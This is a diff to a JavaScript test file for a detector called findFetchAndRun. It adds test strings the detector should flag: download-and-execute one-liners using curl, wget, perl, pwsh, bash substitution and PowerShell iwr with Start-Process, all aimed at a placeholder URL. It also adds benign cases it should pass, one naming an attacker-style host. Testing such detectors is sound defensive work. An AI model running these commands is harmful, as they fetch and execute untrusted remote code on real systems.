@@ -103,14 +103,24 @@ describe('fetch-and-run: the command classes', () => {
     `curl ${URL} ${pipe} busybox sh`,
     `curl ${URL} ${pipe} doas sh`,
     `curl ${URL} ${pipe} su -c sh`,
-    `curl ${URL} ${pipe} timeout 30 bash`
+    `curl ${URL} ${pipe} timeout 30 bash`,
+    `perl -e "$(curl -fsSL ${URL})"`,
+    `pwsh -Command "$(curl -fsSL ${URL})"`,
+    `bash <<< "$(curl -fsSL ${URL})"`,
+    `$(curl -fsSL ${URL})`,
+    `true; $(wget -qO- ${URL})`,
+    `iwr ${URL} -OutFile i.exe; Start-Process i.exe`,
+    `curl -o i.cmd ${URL} && cmd /c i.cmd`
   ])('finds %j', line => {
     expect(findFetchAndRun(line).length).toBeGreaterThan(0)
   })
   it.each([
     ['a SQL concatenation of a URL', "'https://github.com/' || repository || '/actions/runs/' || id"],
     ['a regex literal after &&', '/status<<x/.test(out) && /skip-reason<<y/.test(out)'],
-    ['a download, then listing', `wget ${URL}/f.zip; unzip f.zip`]
+    ['a download, then listing', `wget ${URL}/f.zip; unzip f.zip`],
+    ['a download kept in a variable', `body="$(curl -fsSL ${URL})"`],
+    ['a substitution that is printed', `echo "$(curl -fsSL ${URL})"`],
+    ['a Markdown table of URLs', '| `api-url` | `https://api.attacker.io/v2` | The endpoint. |']
   ])('passes %s', (_what, line) => {
     expect(findFetchAndRun(line)).toEqual([])
   })
